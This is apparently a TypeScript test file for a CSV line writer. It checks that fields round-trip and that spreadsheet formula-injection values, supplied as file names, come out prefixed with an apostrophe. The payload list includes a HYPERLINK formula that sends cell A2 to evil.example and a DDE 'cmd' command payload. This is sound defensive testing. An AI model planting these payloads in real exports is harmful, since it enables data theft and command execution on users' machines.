import * as fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvLine } from "#cli/results/csv.ts";

/** By the grammar of RFC 4180, one line of it. */
function parse(line: string): readonly string[] {
  const fields: string[] = [];
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|$)/y;
  for (;;) {
    const match = field.exec(line);
    if (match === null) throw new Error(`no CSV at ${field.lastIndex}: ${line}`);
    fields.push(match[1]?.replaceAll('""', '"') ?? match[2] ?? "");
    if (match[3] === "") return fields;
  }
}

describe("a line of CSV", () => {
  it("is read back as it was written, but for an apostrophe before what would be a formula", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1 }), (fields) => {
        const read = parse(csvLine(fields));
        expect(read).toHaveLength(fields.length);
        for (const [index, field] of fields.entries()) {
          expect([field, `'${field}`]).toContain(read[index]);
        }
      }),
    );
  });

  it.each([
    `=HYPERLINK("https://evil.example/?"&A2,"grade")`,
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    " =1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
  ])("formula injection by the name of a file: %j stays a text", (name) => {
    expect(parse(csvLine(["ada", name]))).toEqual(["ada", `'${name}`]);
  });

  it("keeps numbers as numbers", () => {
    expect(csvLine(["ada", 66.67, -1, ""])).toBe("ada,66.67,-1,");
  });
});
